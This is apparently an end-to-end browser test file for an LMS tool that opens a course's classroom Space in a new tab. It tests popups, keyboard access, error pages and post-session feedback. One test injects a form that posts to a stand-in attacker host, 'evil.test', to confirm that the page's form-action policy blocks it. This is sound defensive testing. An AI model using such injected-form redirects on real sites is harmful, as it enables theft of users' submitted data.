import type { Browser, Frame, Page } from "playwright-core";
import { afterEach, beforeAll, describe, expect, test, vi } from "vitest";
import { findingsOnEveryScreen, openProfile, startBrowser } from "../support/browser/browser.ts";
import { setCourses } from "../support/builders/embedded-course.ts";
import { startWorld, walkIn } from "../support/tool/start-world.ts";
import { required } from "../support/required.ts";
import { forAllTests } from "../support/for-all-tests.ts";
import { at, launchedFrame, showLink, worldInBrowser } from "../support/browser/open-in-frame.ts";

const biology = { course: "2", link: "1", name: "Biology 101 – Spring", code: "BIO101" };
const enterButton = { name: /^(Enter classroom|Join|Open again)$/ };

const {
  world,
  browser: blocked,
  profiles,
} = await worldInBrowser(startWorld({ learners: 12, dialect: () => ({ afterLogin: "loginOrigins" }) }));
/** Whether pages may open tabs without a click, which a person can set for their LMS. */
const browsers = { allowed: await forAllTests(startBrowser({ allowPopups: true })), blocked };
beforeAll(async () => {
  for (const person of ["teacher1", "student1"]) await walkIn(world, person, biology.link);
});
afterEach(() => {
  world.classroom.clearFaults();
});

/** A new tab in a person's own browser profile. */
async function tabOf(person: string, inBrowser: Browser = blocked): Promise<Page> {
  const context = await openProfile(inBrowser, world.lms.url, world.lms.cookieFor(person));
  profiles.watch(context, world.toolUrl);
  return context.newPage();
}

/** Opens the activity as the LMS embeds it. */
async function openLink(page: Page): Promise<Frame> {
  await page.goto(`${world.lms.url}/link/${biology.link}?container=embed`);
  return launchedFrame(page, world.toolUrl);
}

/** The tab that opens while `act` runs, once it shows a heading. */
async function newTab(page: Page, act: () => Promise<unknown>): Promise<Page> {
  const [tab] = await Promise.all([page.context().waitForEvent("page"), act()]);
  await tab.waitForSelector("h1");
  return tab;
}

function headingOf(page: Page | Frame): Promise<string> {
  return page.getByRole("heading", { level: 1 }).innerText();
}

/** What pages have tried so far: windows opened by a script, forms sent to the Space's way in. */
type Tried = { windows: () => number; entries: () => number };

/** A person's tab, and what its pages do. */
async function watchedTab(
  person: string,
  popups: keyof typeof browsers,
): Promise<{ page: Page; tried: Tried }> {
  const context = await openProfile(browsers[popups], world.lms.url, world.lms.cookieFor(person));
  profiles.watch(context, world.toolUrl);
  let entries = 0;
  context.on("request", (request) => {
    if (request.method() === "POST" && request.url() === `${world.toolUrl}/enter`) entries += 1;
  });
  const page = await context.newPage();
  let windows = 0;
  await page.exposeFunction("noteWindow", () => {
    windows += 1;
  });
  await page.addInitScript(`{
    const open = window.open;
    window.open = (...asked) => { void window.noteWindow(); return open.apply(window, asked); };
  }`);
  return { page, tried: { windows: () => windows, entries: () => entries } };
}

/** The tool's page in the LMS's, once all its scripts have run. */
async function openEmbedded(page: Page): Promise<Frame> {
  const frame = await openLink(page);
  await frame.waitForLoadState("networkidle");
  return frame;
}

describe("A learner who opens the course link embedded in the LMS page", () => {
  test("sees where the button leads, presses it, and the course's Space opens in a new tab", async () => {
    const chromium = await startBrowser({ whole: true });
    try {
      const page = await tabOf("student1", chromium);
      const frame = await openLink(page);
      expect(await headingOf(frame)).toBe("Your online classroom");
      expect(page.context().pages(), "no tab before the press").toHaveLength(1);
      expect(await frame.locator("main").innerText()).toContain(biology.name);
      expect(await frame.getByRole("heading", { name: "Needs your attention" }).count()).toBe(0);

      const space = await newTab(page, () => frame.getByRole("button", enterButton).click());
      expect(new URL(space.url()).origin).toBe(world.classroom.appUrl);
      expect(await headingOf(space)).toContain(biology.name);
      expect(await space.evaluate("window.opener")).toBeNull();
      expect(await frame.getByRole("status").innerText()).toMatch(/is open in a new tab/);
      expect(page.context().pages()).toHaveLength(2);
    } finally {
      await chromium.close();
    }
  });

  test("in an app that opens no windows, finds the Space in place of the page", async () => {
    const page = await tabOf("student1");
    await page.addInitScript("window.open = () => null");
    const frame = await openEmbedded(page);
    await frame.getByRole("button", enterButton).click();
    await page.waitForURL(({ origin }) => origin === world.classroom.appUrl);
  });

  test("can do it by keyboard alone, and sees the focus", async () => {
    const page = await tabOf("student1");
    const frame = await openLink(page);
    for (let presses = 0; presses < 30; presses += 1) {
      const focused = await frame.evaluate("document.activeElement.textContent.trim()");
      if (typeof focused === "string" && enterButton.name.test(focused)) break;
      await page.keyboard.press("Tab");
    }
    const outline = await frame.evaluate(
      "document.querySelector('button:focus-visible') && getComputedStyle(document.activeElement).outline",
    );
    expect(outline).toMatch(/solid 3px/);
    const space = await newTab(page, () => page.keyboard.press("Enter"));
    expect(await headingOf(space)).toContain(biology.name);
  });

  test("finds the Space open already, only once, if the browser allows tabs without a click", async () => {
    // Only in the small Chromium: a tab without a click sometimes keeps Playwright from noticing that the frame has our page.
    const page = await tabOf("student2", browsers.allowed);
    const space = await newTab(page, () => openLink(page));
    await space.waitForURL(`${world.classroom.appUrl}/**`);
    expect(await headingOf(space)).toContain(biology.name);
    const frame = await launchedFrame(page, world.toolUrl);
    expect(await frame.getByRole("status").innerText()).toMatch(/is open in a new tab/);
    expect(page.context().pages()).toHaveLength(2);

    const again = frame.getByRole("button", { name: "Open again" });
    expect(await again.getAttribute("class"), "it no longer asks to be pressed").toBe("large");
    await frame.goto(frame.url());
    await again.waitFor();
    await newTab(page, () => again.click());
    expect(page.context().pages(), "the button still opens one").toHaveLength(3);

    const third = await newTab(page, () => openLink(page));
    await third.waitForURL(`${world.classroom.appUrl}/**`);
    expect(page.context().pages(), "the link, opened again, opens one beside").toHaveLength(4);
  });
});

describe("If tabs without a click are allowed", () => {
  test("nothing opens for an instructor in a frame, by F5 or Back, until they press the button", async () => {
    const { page, tried } = await watchedTab("teacher1", "allowed");
    const frame = await openEmbedded(page);
    await frame.getByRole("button", enterButton).waitFor();
    await frame.getByRole("link", { name: "Grades", exact: true }).click();
    await frame.waitForURL(at("/grades"));
    await page.evaluate("history.back()"); // not goBack, which waits for the whole page
    await frame.waitForURL(at("/home"));
    await frame.evaluate("location.reload()");
    await frame.waitForLoadState("networkidle");
    await frame.getByRole("button", enterButton).waitFor();
    expect([tried.windows(), tried.entries(), page.context().pages().length]).toEqual([0, 0, 1]);
    const [space] = await Promise.all([
      page.context().waitForEvent("page"),
      frame.getByRole("button", enterButton).dblclick(),
    ]);
    await space.waitForURL(`${world.classroom.appUrl}/spaces/**`);
    expect([tried.entries(), page.context().pages().length]).toEqual([1, 2]);
  });

  test("nothing opens for an instructor in a course that shows its classroom inside the LMS's page", async () => {
    await setCourses(world, { mode: "embedded" });
    try {
      const { page, tried } = await watchedTab("teacher1", "allowed");
      const frame = await openEmbedded(page);
      // The script has decided where the button leads, and does everything else immediately.
      await frame.getByText("It opens here.").waitFor();
      expect([tried.windows(), tried.entries()]).toEqual([0, 0]);
      await frame.getByRole("button", enterButton).click();
      await frame.waitForURL(`${world.toolUrl}/space`);
      expect(page.context().pages()).toHaveLength(1);
    } finally {
      await setCourses(world, { mode: "tab" });
    }
  });

  test("an instructor at top level sees the page with the button, even after entering, Back and F5", async () => {
    const { page, tried } = await watchedTab("teacher1", "allowed");
    await page.goto(`${world.lms.url}/link/${biology.link}/launch?container=window`);
    await page.waitForURL(at("/home"));
    await page.waitForLoadState("networkidle");
    expect([tried.windows(), tried.entries()]).toEqual([0, 0]);
    const enter = async () => {
      const [space] = await Promise.all([
        page.context().waitForEvent("page"),
        page.getByRole("button", enterButton).click(),
      ]);
      await space.waitForURL(`${world.classroom.appUrl}/spaces/**`);
      return new URL(space.url()).pathname;
    };
    const first = await enter();
    await page.reload();
    await page.getByRole("link", { name: "Grades", exact: true }).click();
    await page.waitForURL(at("/grades"));
    await page.goBack();
    await page.waitForURL(at("/home"));
    await page.waitForLoadState("networkidle");
    expect([tried.entries(), page.context().pages().length]).toEqual([1, 2]);
    expect(await enter(), "the same Space").toBe(first);
    expect(world.classroom.spaces().filter(({ name }) => name.startsWith(biology.code))).toHaveLength(1);
  });
});

test("a learner who presses the button twice enters once, and may press it again later", async () => {
  const { page, tried } = await watchedTab("student1", "blocked");
  const frame = await showLink(page, world, biology.link);
  const button = frame.getByRole("button", enterButton);
  const [tab] = await Promise.all([page.context().waitForEvent("page"), button.dblclick()]);
  await tab.waitForURL(`${world.classroom.appUrl}/spaces/**`, { timeout: 30_000 });
  expect(tried.entries()).toBe(1);
  // A later click works again; until then each is ignored.
  await vi.waitFor(
    async () => {
      await page.bringToFront();
      await button.click();
      expect(tried.entries()).toBe(2);
    },
    { timeout: 30_000, interval: 500 },
  );
});

test("an injected form leads nowhere if the classroom uses its own addresses, and the page's own forms still work", async () => {
  const page = await tabOf("student1");
  const context = page.context();
  const frame = await showLink(page, world, biology.link);
  const sent: string[] = [];
  await context.route("https://evil.test/**", async (route) => {
    sent.push(route.request().url());
    await route.fulfill({ contentType: "text/html", body: "taken" });
  });
  const button = frame.getByRole("button", enterButton);
  await button.waitFor();
  const refused = await frame.evaluate(`new Promise((resolve) => {
    addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
    const form = document.querySelector('form[action="/enter"]').cloneNode(true);
    form.action = "https://evil.test/take";
    form.target = "_self";
    form.removeAttribute("id");
    document.body.append(form);
    form.submit();
    form.remove();
  })`);
  expect(refused).toBe("form-action");
  expect(sent).toEqual([]);
  const [tab] = await Promise.all([context.waitForEvent("page"), button.first().click()]);
  await tab.waitForURL(`${world.classroom.appUrl}/spaces/**`, { timeout: 30_000 });
});

describe("While the classroom's answers are garbage", () => {
  const nonsense = { operation: "authorize", kind: "garbage", times: 100 } as const;
  const tryAgain = { name: "Try again" };

  /** The page of a failure, perhaps after a moment on the waiting page. */
  async function whenFailed(tab: Page): Promise<void> {
    await tab.getByRole("button", tryAgain).waitFor();
    expect(await headingOf(tab)).toBe("The classroom can’t be opened");
  }

  test("an instructor sees why, from the button in a frame and at top level, on a page that looks right", async () => {
    const [page, top] = [await tabOf("teacher1"), await tabOf("teacher1")];
    // A login that was fetched for their page earlier is used up first.
    await walkIn(world, "teacher1", biology.link);
    world.classroom.addFault(nonsense);
    const frame = await openLink(page);
    const tab = await newTab(page, () => frame.getByRole("button", enterButton).click());
    await whenFailed(tab);
    expect(await tab.getByText("Code: classroom-").isVisible(), "details are open").toBe(true);
    expect(await tab.locator("main").innerText()).not.toMatch(/dialect|CLASSROOM_/i);
    expect(await tab.locator("main").innerText()).not.toContain("your teacher");
    await top.goto(`${world.lms.url}/link/${biology.link}?container=existing`);
    const other = await newTab(top, () => top.getByRole("button", enterButton).click());
    await whenFailed(other);
    expect(await findingsOnEveryScreen(other)).toEqual([]);
  });
});

const left = { name: "You’ve left the classroom" };

/** A person in the Space, in a separate tab. */
async function inSpace(person: string): Promise<Page> {
  const page = await tabOf(person);
  await page.goto(`${world.lms.url}/link/${biology.link}/launch?container=existing`);
  await page.waitForURL(`${world.classroom.appUrl}/spaces/**`);
  await page.getByRole("button", { name: "Leave Space" }).waitFor();
  return page;
}

/** A person who has left it. */
async function afterClass(person: string): Promise<Page> {
  const page = await inSpace(person);
  await page.getByRole("button", { name: "Leave Space" }).click();
  await page.waitForURL(`${world.toolUrl}/ended?**`);
  return page;
}

/** The instructor's page about feedback, in the LMS's frame. */
async function answersPage(): Promise<Frame> {
  const frame = await openLink(await tabOf("teacher1"));
  await frame.getByRole("link", { name: "Feedback after sessions" }).click();
  await frame.waitForURL(at("/feedback"));
  return frame;
}

describe("A learner who leaves the Space", () => {
  test("gets to the page after class, answers by keyboard and mouse, and the instructor sees it", async () => {
    const page = await afterClass("student1");
    expect(await page.getByRole("heading", left).count()).toBe(1);
    expect(await page.getByText(biology.name).count()).toBe(0);
    await page.getByRole("radio", { name: /^4/ }).check();
    await page
      .getByRole("group", { name: "Did sound and picture work?" })
      .getByRole("radio", { name: "Partly" })
      .check();
    await page.getByLabel(/Anything else/).fill("The second half was too fast.\nThe first was good.");
    await page.getByRole("button", { name: "Send" }).focus();
    await page.keyboard.press("Enter");
    await page.waitForURL(`${world.toolUrl}/ended/feedback`);
    expect(await page.getByRole("status").allInnerTexts()).toContainEqual("Thank you. Your answer is saved.");

    const frame = await answersPage();
    await expect.poll(() => frame.getByText("The second half was too fast.").count()).toBe(1);
    expect(await frame.getByText("4 of 5").count()).toBe(1);
    expect(await frame.getByText("partly: 1").count()).toBe(1);
    expect(await frame.locator("main").innerText()).not.toMatch(/Zoë|Åkesson/);
  });

  test("is asked to close the tab if the browser does not let a page do it", async () => {
    const page = await afterClass("student2");
    await page.getByRole("button", { name: "Close this tab" }).click();
    await expect
      .poll(() => page.getByRole("status").allInnerTexts())
      .toContainEqual(expect.stringMatching(/close this tab yourself/));
    expect(await page.getByRole("button", { name: "Close this tab" }).count()).toBe(0);
  });

  test("closes the tab that the course's page opened", async () => {
    const page = await tabOf("student3");
    const frame = await openLink(page);
    const [tab] = await Promise.all([
      page.context().waitForEvent("page"),
      frame.getByRole("button", enterButton).click(),
    ]);
    await tab.getByRole("button", { name: "Leave Space" }).click();
    await tab.waitForURL(`${world.toolUrl}/ended?**`);
    expect(await tab.getByText("Your course may still be open in another tab").count()).toBe(1);
    const close = tab.getByRole("button", { name: "Close this tab" });
    // The tab may be gone before the click is over.
    await close.click().catch((thrown: unknown) => {
      if (!tab.isClosed()) throw thrown;
    });
    // Some browsers keep open a tab that a form opened; then the page asks the person to close it.
    await expect
      .poll(async () => tab.isClosed() || (await tab.getByText(/close this tab yourself/).count()) === 1)
      .toBe(true);
  });

  test("sees the page in the Space's frame, without a button for closing", async () => {
    const page = await inSpace("student5");
    const space = page.url();
    await page.goto(`${world.lms.url}/course/2`);
    // A frame in a page of this machine: a browser does not let a served page show another server on the machine.
    await page.evaluate(`document.body.innerHTML = '<iframe title="Space" width="900" height="600"></iframe>';
      document.querySelector("iframe").src = ${JSON.stringify(space)};`);
    const frame = required(await (await page.waitForSelector("iframe")).contentFrame());
    await frame.getByRole("button", { name: "Leave Space" }).click();
    await frame.waitForURL(`${world.toolUrl}/ended?**`);
    expect(await frame.getByRole("heading", left).count()).toBe(1);
    expect(await frame.getByRole("button", { name: "Close this tab" }).count()).toBe(0);
    await frame.getByRole("link", { name: "Back to the course" }).click();
    await page.waitForURL(`${world.lms.url}/course/2`);
  });

  test("can answer without scripts", async () => {
    const page = await afterClass("student6");
    const plain = await blocked.newContext({ javaScriptEnabled: false });
    profiles.watch(plain, world.toolUrl);
    const tab = await plain.newPage();
    await tab.goto(page.url());
    expect(await tab.getByRole("button", { name: "Close this tab" }).count()).toBe(0);
    await tab.getByRole("radio", { name: /^2/ }).check();
    await tab.getByRole("button", { name: "Send" }).click();
    expect(await tab.getByText("Thank you. Your answer is saved.").count()).toBe(1);
  });
});

describe("In a 600 px frame and on a 360 px phone, light and dark", () => {
  test("the page after class looks right, even after an answer that failed and one that was stored", async () => {
    const page = await afterClass("student7");
    expect(await findingsOnEveryScreen(page)).toEqual([]);
    await page.getByRole("button", { name: "Send" }).click();
    await page.getByRole("alert").waitFor();
    expect(await findingsOnEveryScreen(page)).toEqual([]);
    await page.getByLabel(/Anything else/).fill("x".repeat(1_000));
    await page.getByRole("button", { name: "Send" }).click();
    await page.getByText("Your answer is saved").waitFor();
  });

  test("the page looks right if the address names no session", async () => {
    const page = await tabOf("student7");
    await page.goto(`${world.toolUrl}/ended`);
    expect(await findingsOnEveryScreen(page)).toEqual([]);
  });

  test("the instructor's page looks right, with answers and without feedback", async () => {
    const frame = await answersPage();
    await frame.getByText("xxxxxxxx").first().waitFor();
    const page = frame.page();
    const alone = await showLink(page, world, biology.link);
    await alone.getByRole("link", { name: "Feedback after sessions" }).click();
    await alone.waitForURL(at("/feedback"));
    expect(await findingsOnEveryScreen(alone)).toEqual([]);
    await alone.getByRole("button", { name: "Stop asking for feedback" }).click();
    await alone.getByRole("button", { name: "Ask for feedback after sessions" }).waitFor();
  });
});
